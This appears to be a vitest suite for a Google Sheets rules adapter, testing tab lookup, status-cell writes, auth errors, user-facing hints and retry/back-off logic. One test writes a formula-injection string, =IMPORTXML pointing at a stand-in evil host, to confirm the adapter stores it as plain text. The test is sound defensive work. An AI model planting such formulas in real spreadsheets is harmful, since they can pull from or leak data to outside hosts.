import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { serviceAccountAuth } from '#sheets-sync/google-auth.js';
import {
  backoffDelayMs,
  GoogleRulesSheet,
  type GoogleRulesSheetOptions,
  GoogleSheetsError,
  gridRange,
  parseRetryAfter,
  SHEETS_SCOPE,
  TAB_METADATA_KEY,
} from '#sheets-sync/google-sheets.js';
import { type Cell, type GoogleApiServer, startGoogleApiServer } from '#test/peers/google-api-server.js';
import { fakeServiceAccount } from '#test/peers/google-service-account.js';

let google: GoogleApiServer;
let sheets = 0;

beforeAll(async () => {
  google = await startGoogleApiServer();
});

afterAll(async () => {
  await google?.stop();
});

/** A fresh spreadsheet holding `tabs`, and an adapter on it whose waits are recorded, not slept. */
function fresh(
  tabs: Record<string, Cell[][]>,
  options: Partial<GoogleRulesSheetOptions> = {},
  sharing: { sharedWith?: string[] } = {},
) {
  const spreadsheetId = `sheet-${++sheets}-abcdefghij`;
  google.addSpreadsheet(spreadsheetId, tabs, sharing);
  const waits: number[] = [];
  const sheet = new GoogleRulesSheet({
    spreadsheetId,
    serviceAccount: google.serviceAccount,
    tokenUrl: google.tokenUrl,
    rootUrl: google.rootUrl,
    sleep: async (ms) => {
      waits.push(ms);
    },
    random: () => 0.5,
    ...options,
  });
  return { spreadsheetId, sheet, waits };
}

const tokenRequests = () => google.auth.requests.filter((r) => r.endpoint === 'token').length;

describe('GoogleRulesSheet', () => {
  it('reads the Rules tab wide, unformatted, with the status cell apart, on one cached access token', async () => {
    // Prepare
    const { sheet } = fresh({
      Carts: [['Cart ID']],
      Rules: [
        ['Name', 'Cart total from', 'x', 'inserted', 'y', 'Rules version 1 in force'],
        ['small', 0, 4, '', 24],
        [],
        ['Quiet hours start', 0.875],
      ],
    });
    const before = google.requests.length;
    const tokensBefore = tokenRequests();

    // Act
    const first = await sheet.readRules();
    const second = await sheet.readRules();

    // Assess
    expect(first).toEqual({
      rows: [
        ['Name', 'Cart total from', 'x', 'inserted', 'y', ''],
        ['small', 0, 4, '', 24],
        [],
        ['Quiet hours start', 0.875],
      ],
      status: 'Rules version 1 in force',
    });
    expect(second).toEqual(first);
    expect(google.requests.slice(before).map((r) => `${r.operation} ${r.status}`)).toEqual([
      'spreadsheets.get 200',
      'values.batchGet 200',
      'spreadsheets.get 200',
      'values.batchGet 200',
    ]);
    // One JWT bearer grant at the token endpoint; the token is reused until it expires.
    expect(tokenRequests() - tokensBefore).toBe(1);
  });

  it('reads every row of the Rules tab, however far down', async () => {
    // Prepare: a row 250 down, below where a capped range would stop.
    const rows: Cell[][] = Array.from({ length: 250 }, (_, i) => [
      i === 249 ? 'Subject 2 (de)' : i === 0 ? 'Name' : '',
    ]);
    const { sheet } = fresh({ Rules: rows });

    // Act
    const read = await sheet.readRules();

    // Assess
    expect(read.rows).toHaveLength(250);
    expect(read.rows.at(-1)).toEqual(['Subject 2 (de)']);
  });

  it('finds the rules tab by the mark Set up put on it after the owner renamed it', async () => {
    // Prepare
    const { sheet, spreadsheetId } = fresh({ Rules: [['Name']] });
    google.mark(spreadsheetId, 'Rules', TAB_METADATA_KEY, 'rules');
    google.rename(spreadsheetId, 'Rules', "Owner's rules");

    // Act
    const read = await sheet.readRules();
    await sheet.writeStatus('ok');

    // Assess
    expect(read.rows).toEqual([['Name']]);
    expect(google.cell(spreadsheetId, "'Owner''s rules'!F1")).toBe('ok');
  });

  it('says plainly that there is no tab named Rules when neither the mark nor the title is there', async () => {
    // Prepare
    const { sheet } = fresh({ 'Rules (old)': [['Name']] });

    // Act
    const failure = await sheet.readRules().catch((error: unknown) => error);

    // Assess
    expect(failure).toBeInstanceOf(GoogleSheetsError);
    expect((failure as GoogleSheetsError).reason).toBe('TAB_NOT_FOUND');
    expect((failure as GoogleSheetsError).hint).toMatch(/^There is no tab named Rules/);
  });

  it('writes the status cell as plain text, never as a formula', async () => {
    // Prepare
    const { sheet, spreadsheetId } = fresh({ Rules: [['Name']] });

    // Act
    await sheet.writeStatus('=IMPORTXML("https://evil.example")\nline two');

    // Assess
    expect(google.cell(spreadsheetId, 'Rules!F1')).toBe('=IMPORTXML("https://evil.example")\nline two');
    expect(await sheet.readStatus()).toBe('=IMPORTXML("https://evil.example")\nline two');
  });

  it('writes the status to a cell of another tab, cut to 5,000 characters', async () => {
    // Prepare
    const { sheet, spreadsheetId } = fresh({ Rules: [], Status: [] }, { statusCell: 'Status!B2' });

    // Act
    await sheet.writeStatus('x'.repeat(6_000));

    // Assess
    const status = google.cell(spreadsheetId, 'Status!B2');
    expect(typeof status === 'string' && status.length).toBe(5_000);
    expect(String(status).endsWith('…')).toBe(true);
    expect(google.cell(spreadsheetId, 'Rules!F1')).toBeUndefined();
  });

  it('accepts an injected auth client', async () => {
    // Prepare
    const { sheet } = fresh(
      { Rules: [['Name']] },
      {
        serviceAccount: undefined,
        authClient: serviceAccountAuth(google.serviceAccount, [SHEETS_SCOPE], google.tokenUrl),
      },
    );

    // Act
    const { rows } = await sheet.readRules();

    // Assess
    expect(rows).toEqual([['Name']]);
  });

  it('is refused with 401 when it skips the token endpoint (a self-signed JWT)', async () => {
    // Prepare
    const jwt = serviceAccountAuth(google.serviceAccount, [SHEETS_SCOPE], google.tokenUrl);
    jwt.useJWTAccessWithScope = true;
    const { sheet } = fresh({ Rules: [['Name']] }, { serviceAccount: undefined, authClient: jwt });

    // Act
    const failure = await sheet.readRules().catch((error: unknown) => error);

    // Assess
    expect((failure as GoogleSheetsError).status).toBe(401);
    expect((failure as GoogleSheetsError).hint).toMatch(/refused the engine's login/);
  });

  it('fails at once, without retrying, when the token endpoint refuses the key', async () => {
    // Prepare
    const stranger = fakeServiceAccount('stranger@other-project.iam.gserviceaccount.com');
    const { sheet, waits } = fresh({ Rules: [['Name']] }, { serviceAccount: stranger });

    // Act
    const failure = await sheet.readRules().catch((error: unknown) => error);

    // Assess
    expect(failure).toBeInstanceOf(GoogleSheetsError);
    expect((failure as GoogleSheetsError).reason).toMatch(/^invalid_(grant|client)$/);
    expect((failure as GoogleSheetsError).temporary).toBe(false);
    expect(waits).toEqual([]);
  });

  it('says to share the sheet with the service account when it is not shared (403)', async () => {
    // Prepare
    const { sheet } = fresh({ Rules: [['Name']] }, {}, { sharedWith: ['owner@example.com'] });

    // Act
    const failure = (await sheet.readRules().catch((error: unknown) => error)) as GoogleSheetsError;

    // Assess
    expect(failure.status).toBe(403);
    expect(failure.reason).toBe('PERMISSION_DENIED');
    expect(failure.hint).toContain(
      `Share the spreadsheet (and the summary document) with ${google.serviceAccount.client_email}`,
    );
  });

  it('says which API to turn on in which project when the Sheets API is disabled', async () => {
    // Prepare
    const { sheet } = fresh({ Rules: [['Name']] });
    google.setApiEnabled(false);

    // Act
    const failure = (await sheet.readRules().catch((error: unknown) => error)) as GoogleSheetsError;
    google.setApiEnabled(true);

    // Assess
    expect(failure.status).toBe(403);
    expect(failure.reason).toBe('SERVICE_DISABLED');
    expect(failure.hint).toContain(
      `turn on the Google Sheets API in Google Cloud project ${google.auth.projectNumber}`,
    );
    expect(failure.temporary).toBe(false);
  });

  it('waits out 429s for at least their Retry-After, then succeeds', async () => {
    // Prepare
    const { sheet, waits } = fresh({ Rules: [['Name']] });
    google.failNext(2, { status: 429, retryAfterSeconds: 3 });

    // Act
    const { rows } = await sheet.readRules();

    // Assess
    expect(rows).toEqual([['Name']]);
    expect(sheet.requests['spreadsheets.get']).toBe(3);
    expect(waits).toHaveLength(2);
    for (const wait of waits) {
      expect(wait).toBeGreaterThanOrEqual(3_000);
      expect(wait).toBeLessThan(4_000);
    }
  });

  it('retries a rate-limit 403 (userRateLimitExceeded) as Google advises', async () => {
    // Prepare
    const { sheet, waits } = fresh({ Rules: [['Name']] });
    google.failNext(1, { status: 403, reason: 'userRateLimitExceeded' });

    // Act
    const { rows } = await sheet.readRules();

    // Assess
    expect(rows).toEqual([['Name']]);
    expect(waits).toEqual([1_500]);
  });

  it('backs off with doubling jittered waits on 5xx and gives up after its tries, as "try again"', async () => {
    // Prepare
    const { sheet, waits } = fresh(
      { Rules: [['Name']] },
      { retry: { attempts: 4, baseDelayMs: 100, maxDelayMs: 300 } },
    );
    google.failNext(4, { status: 503 });

    // Act
    const failure = await sheet.readRules().catch((error: unknown) => error);

    // Assess
    expect(failure).toBeInstanceOf(GoogleSheetsError);
    expect((failure as GoogleSheetsError).status).toBe(503);
    expect((failure as GoogleSheetsError).temporary).toBe(true);
    expect((failure as GoogleSheetsError).hint).toMatch(/Try again in a few minutes/);
    expect(sheet.requests['spreadsheets.get']).toBe(4);
    // 100, 200, 300 (capped), each plus half a base of jitter
    expect(waits).toEqual([150, 250, 350]);
  });

  it('stops backing off when the waits would pass their total budget', async () => {
    // Prepare
    const { sheet, waits } = fresh({ Rules: [['Name']] }, { retry: { maxTotalDelayMs: 10_000 } });
    google.failNext(4, { status: 500 });

    // Act
    const failure = await sheet.readRules().catch((error: unknown) => error);

    // Assess
    expect((failure as GoogleSheetsError).status).toBe(500);
    // 1.5 + 2.5 + 4.5 s = 8.5 s; the next 8.5 s wait would pass 10 s.
    expect(waits).toEqual([1_500, 2_500, 4_500]);
  });

  it('gives up a request Google never answers after its time limit, and tries again', async () => {
    // Prepare
    const { sheet, waits } = fresh({ Rules: [['Name']] }, { timeoutMs: 300 });
    google.failNext(1, { hang: true });

    // Act
    const { rows } = await sheet.readRules();

    // Assess
    expect(rows).toEqual([['Name']]);
    expect(sheet.requests['spreadsheets.get']).toBe(2);
    expect(waits).toEqual([1_500]);
  });

  it('says Google is unreachable, try again, when every try runs out of time', async () => {
    // Prepare
    const { sheet } = fresh({ Rules: [['Name']] }, { timeoutMs: 200, retry: { attempts: 2 } });
    google.failNext(2, { hang: true });

    // Act
    const failure = (await sheet.readRules().catch((error: unknown) => error)) as GoogleSheetsError;

    // Assess
    expect(failure).toBeInstanceOf(GoogleSheetsError);
    expect(failure.reason).toBe('ETIMEDOUT');
    expect(failure.temporary).toBe(true);
    expect(failure.hint).toContain('Google is busy or unreachable right now');
  });

  it.each([
    ['dailyLimitExceeded', "Google's quota for the engine's project is used up for now"],
    ['quotaExceeded', "Google's quota for the engine's project is used up for now"],
    ['storageQuotaExceeded', 'is full'],
    ['sharingRateLimitExceeded', 'how many files can be shared'],
  ])('names a 403 %s for what it is, not a file left unshared', async (reason, hint) => {
    // Prepare
    const { sheet } = fresh({ Rules: [['Name']] });
    google.failNext(1, { status: 403, reason });

    // Act
    const failure = (await sheet.readRules().catch((error: unknown) => error)) as GoogleSheetsError;

    // Assess
    expect(failure.reason).toBe(reason);
    expect(failure.hint).toContain(hint);
    expect(failure.hint).not.toContain('Share the spreadsheet');
  });

  it('does not wait for a Retry-After beyond its limit', async () => {
    // Prepare
    const { sheet, waits } = fresh({ Rules: [['Name']] });
    google.failNext(1, { status: 429, retryAfterSeconds: 3600 });

    // Act
    const failure = await sheet.readRules().catch((error: unknown) => error);

    // Assess
    expect((failure as GoogleSheetsError).status).toBe(429);
    expect(sheet.requests['spreadsheets.get']).toBe(1);
    expect(waits).toEqual([]);
  });
});

describe('back-off arithmetic', () => {
  it('reads Retry-After as seconds or as an HTTP date', () => {
    const now = new Date('2026-06-10T14:00:00Z');
    expect(parseRetryAfter('7', now)).toBe(7_000);
    expect(parseRetryAfter('Wed, 10 Jun 2026 14:00:30 GMT', now)).toBe(30_000);
    expect(parseRetryAfter('Wed, 10 Jun 2026 13:00:00 GMT', now)).toBe(0);
    expect(parseRetryAfter('soon', now)).toBeUndefined();
    expect(parseRetryAfter(undefined, now)).toBeUndefined();
  });

  it('doubles up to the ceiling plus up to one base of jitter, and adds jitter on top of Retry-After', () => {
    const options = { baseDelayMs: 1_000, maxDelayMs: 32_000 };
    expect([1, 2, 3, 4, 5, 6, 7].map((n) => backoffDelayMs(n, undefined, options, () => 0))).toEqual([
      1_000, 2_000, 4_000, 8_000, 16_000, 32_000, 32_000,
    ]);
    expect(backoffDelayMs(1, undefined, options, () => 0.999)).toBe(1_999);
    expect(backoffDelayMs(1, 4_000, options, () => 0.5)).toBe(4_500);
  });

  it('turns A1 ranges into zero-based, end-exclusive grid ranges', () => {
    expect(gridRange(7, 'B2:C3')).toEqual({
      sheetId: 7,
      startRowIndex: 1,
      endRowIndex: 3,
      startColumnIndex: 1,
      endColumnIndex: 3,
    });
    expect(gridRange(0, 'AA10')).toEqual({
      sheetId: 0,
      startRowIndex: 9,
      endRowIndex: 10,
      startColumnIndex: 26,
      endColumnIndex: 27,
    });
  });
});
